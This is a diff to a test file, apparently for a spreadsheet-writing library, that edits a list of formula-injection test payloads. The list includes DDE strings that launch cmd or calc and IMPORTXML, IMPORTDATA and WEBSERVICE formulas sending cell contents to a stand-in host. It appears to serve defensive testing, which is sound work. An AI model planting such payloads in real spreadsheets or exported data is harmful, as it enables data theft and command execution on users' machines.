@@ -19,7 +19,7 @@ from common.tables.writing import Paper, text_file, workbook
 OPENS = "=+-@\t\r\n＝＋－＠"
 PAYLOADS = [
     "=1+1", "=1+1+cmd|' /C calc'!A0", "=cmd|'/C calc'!A1", "=HYPERLINK(\"http://x.invalid\",\"点这里\")",
-    "=IMPORTXML(CONCAT(\"http://x.invalid?v=\",A1),\"//a\")", "=IMPORTDATA(\"http://x.invalid\")",
+    "=IMPORTXML(CONCAT(\"http://x.invalid/?v=\",A1),\"//a\")", "=IMPORTDATA(\"http://x.invalid\")",
     "=WEBSERVICE(\"http://x.invalid\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\cmd.exe'!''",
     "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=SUM(A1:A9)", "=A1", "==1", "=\"a\"&B2", "={1,2}", "+1+1",
     "+cmd|' /C calc'!A0", "+HYPERLINK(\"x\")", "++1", "-1+1", "-2+3+cmd|' /C calc'!A0", "-A1", "--1", "@SUM(1+1)",
